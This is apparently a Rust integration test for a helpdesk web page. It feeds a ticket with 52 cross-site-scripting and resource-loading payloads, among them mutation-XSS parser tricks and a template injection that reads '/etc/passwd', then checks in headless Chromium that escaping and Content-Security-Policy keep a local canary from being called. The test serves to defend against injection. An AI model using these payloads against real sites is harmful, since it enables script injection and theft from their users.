//! A real browser on the page: nothing that a stranger wrote runs there, nothing is fetched from
//! elsewhere, and a scanner that opens every link changes nothing (T18, T21, T22).

use std::net::SocketAddr;
use std::process::{Output, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;
use tokio::process::Command;

use crate::desk::{Attached, CAMILLE, Desk, MARIE, encoded};
use crate::http;

/// A page that is not there by then never comes.
const PATIENCE: Duration = Duration::from_secs(40);

const NO_CALL: [&str; 0] = [];

/// What scripts of the corpus do when they run: `PWNED` as title and a call to the canary.
const RUN: &str = "document.title='PWNED';new Image().src='http://CANARY/ran'";

/// Strings that ran, or would have fetched something, in one mail reader, ticket system or
/// sanitiser or another. `RUN` and `CANARY` are replaced.
const CORPUS: [&str; 52] = [
    "<script>RUN</script>",
    "</title><script>RUN</script>",
    "\"><script>RUN</script>",
    "'><script>RUN</script>",
    "</div></li></ol><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script src=http://CANARY/a.js></script>",
    "<script/src=//CANARY/a.js></script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<<script>RUN//<</script>",
    "<script\n>RUN</script\n>",
    "<img src=x onerror=\"RUN\">",
    "<img src=x onerror=RUN>",
    "<img/src='x'/onerror=\"RUN\">",
    "\"><img src=x onerror=\"RUN\">",
    "\" autofocus onfocus=\"RUN\" tabindex=0 x=\"",
    "' onmouseover='RUN' style='position:fixed;inset:0",
    "<img src=http://CANARY/pixel.gif>",
    "<img srcset=\"http://CANARY/a.png 1x, http://CANARY/b.png 2x\">",
    "<picture><source srcset=http://CANARY/c.png><img></picture>",
    "<svg onload=\"RUN\">",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=\"RUN\" attributeName=x dur=1s>",
    "<svg><image href=http://CANARY/svg.png /></svg>",
    "<svg><use href=\"http://CANARY/x.svg#a\"/></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=RUN>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    "<body onload=\"RUN\">",
    "<iframe src=\"javascript:RUN\"></iframe>",
    "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
    "<iframe src=http://CANARY/frame></iframe>",
    "<object data=http://CANARY/object></object>",
    "<embed src=http://CANARY/embed>",
    "<link rel=stylesheet href=http://CANARY/a.css>",
    "<link rel=prefetch href=http://CANARY/prefetch>",
    "<link rel=dns-prefetch href=//CANARY>",
    "<style>@import url(http://CANARY/import.css);</style>",
    "<style>body{background:url(http://CANARY/background.png)}</style>",
    "<div style=\"background:url(http://CANARY/style.png)\">x</div>",
    "<meta http-equiv=refresh content=\"0;url=http://CANARY/refresh\">",
    "<base href=http://CANARY/>",
    "<video autoplay src=http://CANARY/v.mp4 onerror=\"RUN\"></video>",
    "<audio src=x onerror=\"RUN\"></audio>",
    "<details open ontoggle=\"RUN\">",
    "<input autofocus onfocus=\"RUN\">",
    "<marquee onstart=\"RUN\">x</marquee>",
    "{{ constructor.constructor(\"RUN\")() }}{% include \"/etc/passwd\" %}${RUN}<%= RUN %>",
    "&lt;script&gt;RUN&lt;/script&gt; &#60;img src=x onerror=RUN&#62;",
    "javascript:RUN \u{0}java\tscript:RUN //CANARY/ \u{1f}\u{202e}<a href=\" javascript:RUN\">x</a>",
];

/// Listens where nobody should call, and counts.
pub struct Canary {
    address: SocketAddr,
    calls: Arc<Mutex<Vec<String>>>,
}

impl Canary {
    pub async fn open() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
        let address = listener.local_addr().expect("bound");
        let calls = Arc::new(Mutex::new(Vec::new()));
        let counted = Arc::clone(&calls);
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                let mut asked = [0; 512];
                let read = stream.read(&mut asked);
                let read = tokio::time::timeout(Duration::from_millis(300), read).await;
                let read = read.map_or(0, Result::unwrap_or_default);
                let asked = String::from_utf8_lossy(&asked[..read]);
                let first = asked.lines().next().unwrap_or_default().to_owned();
                counted.lock().expect("not poisoned").push(first);
            }
        });
        Self { address, calls }
    }

    /// The first line of each call so far; empty when it said nothing.
    pub fn calls(&self) -> Vec<String> {
        self.calls.lock().expect("not poisoned").clone()
    }

    pub fn corpus(&self) -> Vec<String> {
        let address = self.address.to_string();
        CORPUS
            .iter()
            .map(|text| text.replace("RUN", RUN).replace("CANARY", &address))
            .collect()
    }
}

/// Serves one page as it is, with `headers` and nothing else.
async fn mirror(headers: String, page: String) -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let address = listener.local_addr().expect("bound");
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let (headers, page) = (headers.clone(), page.clone());
            tokio::spawn(async move {
                let mut asked = [0; 8192];
                let _ = stream.read(&mut asked).await;
                let answer = format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {}\r\nConnection: close\r\n{headers}\r\n{page}",
                    page.len()
                );
                let _ = stream.write_all(answer.as_bytes()).await;
            });
        }
    });
    address
}

/// What the browser made of a page: its document after all scripts, and what it complained about.
struct Seen {
    document: String,
    console: String,
}

/// Chromium without a window, which reaches nothing but loopback.
pub async fn chromium(arguments: &[&str], url: &str) -> Output {
    let profile = tempfile::tempdir().expect("a temporary folder");
    let command = Command::new("chromium")
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--disable-dev-shm-usage",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
            "--virtual-time-budget=3000",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .args(arguments)
        .arg(url)
        .stdin(Stdio::null())
        .kill_on_drop(true)
        .output();
    tokio::time::timeout(PATIENCE, command)
        .await
        .expect("the browser answers")
        .unwrap_or_else(|error| {
            panic!("chromium cannot be started ({error}); on Debian: apt-get install chromium")
        })
}

/// Opens a page and waits for its scripts, if it has any.
async fn browse(url: &str) -> Seen {
    let output = chromium(&["--enable-logging=stderr", "--dump-dom"], url).await;
    let errors = String::from_utf8_lossy(&output.stderr);
    let console: Vec<&str> = errors
        .lines()
        .filter(|line| line.contains("CONSOLE"))
        .collect();
    Seen {
        document: String::from_utf8_lossy(&output.stdout).into_owned(),
        console: console.join("\n"),
    }
}

/// A ticket that is hostile in every field that a stranger can fill.
pub async fn hostile_ticket(corpus: &[String]) -> Desk {
    let mut desk = Desk::open().await;
    let everything = corpus.join("\n");
    let svg = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\">{}</svg>",
        corpus[0]
    );
    let mut files: Vec<Attached<'_>> = corpus
        .iter()
        .map(|name| Attached {
            name,
            kind: "image/png",
            bytes: svg.as_bytes(),
        })
        .collect();
    files.push(Attached {
        name: "dessin.svg",
        kind: "image/svg+xml",
        bytes: svg.as_bytes(),
    });
    let headers = format!(
        "From: {} <{MARIE}>\nTo: support@example.org\nSubject: {}",
        encoded(&corpus[2]),
        encoded(&format!("{} {}", corpus[1], corpus[12]))
    );
    desk.mail(&headers, &everything, &files).await;
    desk.reply_with(
        &encoded(&corpus[13]),
        MARIE,
        &format!("X-Mailer: {}", encoded(&corpus[3])),
        &format!(
            "Encore.\n\nLe lun. 23 nov. 2026 à 10:00, {} a écrit :\n> {}",
            corpus[4],
            corpus.join("\n> ")
        ),
    )
    .await;
    // Markup instead of text.
    let html = format!(
        "From: Marie Durand <{MARIE}>\nTo: support@example.org\nSubject: [DSI-1] x\nIn-Reply-To: <1@test.example.org>"
    );
    desk.html(&html, &format!("<p>En HTML :</p>{everything}"))
        .await;
    desk.reply(
        "Camille Martin",
        CAMILLE,
        &format!("Je regarde : {everything}"),
    )
    .await;
    for subject in corpus {
        let headers = format!(
            "From: {} <{MARIE}>\nTo: support@example.org\nSubject: {}\nIn-Reply-To: <1@test.example.org>",
            encoded(subject),
            encoded(&format!("[DSI-1] {subject}"))
        );
        desk.mail(&headers, subject, &[]).await;
    }
    // So that every form is there.
    desk.reply("Camille Martin", CAMILLE, "Réglé.\n\n#resolu")
        .await;
    desk
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn nothing_that_a_stranger_wrote_runs_or_loads_anything() {
    let canary = Canary::open().await;
    let corpus = canary.corpus();
    let desk = hostile_ticket(&corpus).await;
    let link = desk.link(MARIE);
    let page = desk.page().await;
    let watch = desk.watch();

    // The words are all there, to be read.
    let words = page.matches("new Image().src").count();
    assert!(words > 150, "{words}");
    let url = format!("http://{}{link}", desk.address);
    let seen = browse(&url).await;
    assert!(seen.document.contains("En HTML"), "{}", seen.document);
    is_calm(&seen, "the page");
    assert_eq!(seen.console, "", "the policy had nothing to forbid");
    assert_eq!(canary.calls(), NO_CALL);

    // Escaping alone is enough: the same page without a policy.
    let bare = mirror(String::new(), page.clone()).await;
    is_calm(
        &browse(&format!("http://{bare}/")).await,
        "the page without its policy",
    );
    assert_eq!(canary.calls(), NO_CALL);

    // What was typed and is shown again, with what is missing.
    let typed = corpus.join("\n");
    let rate = format!("{link}/noter");
    let again = http::submit(desk.address, &rate, &[("description", &typed)]).await;
    assert_eq!(again.status, 422);
    let again = again.text();
    let kept = words
        + corpus
            .iter()
            .filter(|text| text.contains("new Image().src"))
            .count();
    assert!(again.matches("new Image().src").count() >= kept, "{again}");
    let shown = mirror(String::new(), again).await;
    let seen = browse(&format!("http://{shown}/")).await;
    is_calm(&seen, "the form that is shown again");
    assert_eq!(canary.calls(), NO_CALL);

    // The policy alone is enough: the same strings, not escaped.
    let raw = format!("<title>Fine</title><p>{}", corpus.join("<p>"));
    let answer = desk.get(&link).await;
    let policy = answer.header("content-security-policy");
    let policy = format!("Content-Security-Policy: {policy}\r\n");
    // A page may always send its reader elsewhere; that is no script and loads nothing into it.
    let kept: String = raw.replace("http-equiv=refresh", "");
    let strict = mirror(policy, kept).await;
    let seen = browse(&format!("http://{strict}/")).await;
    assert!(
        seen.document.contains("<title>Fine</title>"),
        "{}",
        seen.document
    );
    assert!(
        seen.console.contains("Content Security Policy"),
        "{}",
        seen.console
    );
    // No policy covers a connection opened ahead (`dns-prefetch`); nothing is asked on it.
    let mut calls = canary.calls();
    calls.retain(|asked| !asked.is_empty());
    assert_eq!(calls, NO_CALL);

    // Neither of both: the strings do what they are here for, or this test shows nothing.
    let naked = mirror(String::new(), raw).await;
    browse(&format!("http://{naked}/")).await;
    let ran = || canary.calls().iter().any(|asked| asked.contains("/ran"));
    let started = Instant::now();
    while !ran() {
        assert!(started.elapsed() < PATIENCE, "the corpus is harmless");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }

    // The browser looked around; the desk is as before.
    assert!(!watch.something_was_written());
}

/// Elements and attributes that the templates of the page use.
const ELEMENTS: &[&str] = &[
    "a", "body", "br", "button", "dd", "details", "div", "dl", "dt", "fieldset", "footer", "form",
    "h1", "h2", "head", "header", "html", "img", "input", "label", "legend", "li", "link", "main",
    "meta", "nav", "ol", "p", "section", "span", "strong", "summary", "textarea", "time", "title",
    "ul",
];
const ATTRIBUTES: &[&str] = &[
    "action",
    "alt",
    "aria-current",
    "aria-describedby",
    "aria-hidden",
    "aria-invalid",
    "aria-label",
    "aria-labelledby",
    "aria-live",
    "charset",
    "class",
    "content",
    "data-focus",
    "data-script",
    "datetime",
    "decoding",
    "download",
    "enctype",
    "for",
    "hidden",
    "href",
    "hreflang",
    "id",
    "lang",
    "loading",
    "method",
    "multiple",
    "name",
    "rel",
    "required",
    "role",
    "src",
    "tabindex",
    "type",
    "value",
];

/// The document holds what our templates hold, and nothing of it leads elsewhere.
fn is_calm(seen: &Seen, what: &str) {
    let document = &seen.document;
    assert!(!document.contains("<title>PWNED"), "{what}");
    // As the browser writes it: text has `&lt;`, so each `<` begins a tag.
    let tag = regex::Regex::new(r#"<([a-zA-Z0-9]+)((?: [^\s=">]+="[^"]*")*)>"#).expect("a pattern");
    let attribute = regex::Regex::new(r#" ([^\s=">]+)="([^"]*)""#).expect("a pattern");
    // The one script that is ours; what else is called so is found below.
    let script = "<script src=\"/script.js\" defer=\"\">";
    let mut tags = document.matches(script).count();
    assert!(tags <= 1, "{what} has two scripts");
    let document = &document.replace(script, "");
    for found in tag.captures_iter(document) {
        tags += 1;
        assert!(ELEMENTS.contains(&&found[1]), "{what} has {}", &found[0]);
        for one in attribute.captures_iter(&found[2]) {
            let (name, value) = (&one[1], &one[2]);
            assert!(ATTRIBUTES.contains(&name), "{what} has {}", &found[0]);
            let leads = [
                "/t/",
                "/style.css",
                "/icon.svg",
                "#main",
                "#e",
                "?lang=",
                "mailto:support@example.org?",
            ];
            let own = ["/", "/mes-demandes", "/demande", "/aide", "/accessibilite"];
            let own = own.contains(&value);
            let inside = own || leads.iter().any(|start| value.starts_with(start));
            // What looks like an address of the web is a link, and loads nothing by itself.
            let out = ["http://", "https://"]
                .iter()
                .any(|start| value.starts_with(start))
                && &found[1] == "a"
                && found[2].ends_with(r#" rel="noopener noreferrer nofollow""#);
            assert!(
                inside || out || !["href", "src", "action"].contains(&name),
                "{what} has {}",
                &found[0]
            );
        }
    }
    let closing = document.matches("</").count();
    let begun = document.matches('<').count() + seen.document.matches(script).count();
    let doctype = document.matches("<!DOCTYPE").count();
    assert_eq!(tags + closing + doctype, begun, "{what} has something else");
    assert!(tags > 200, "{what} is hardly there: {tags} tags");
}
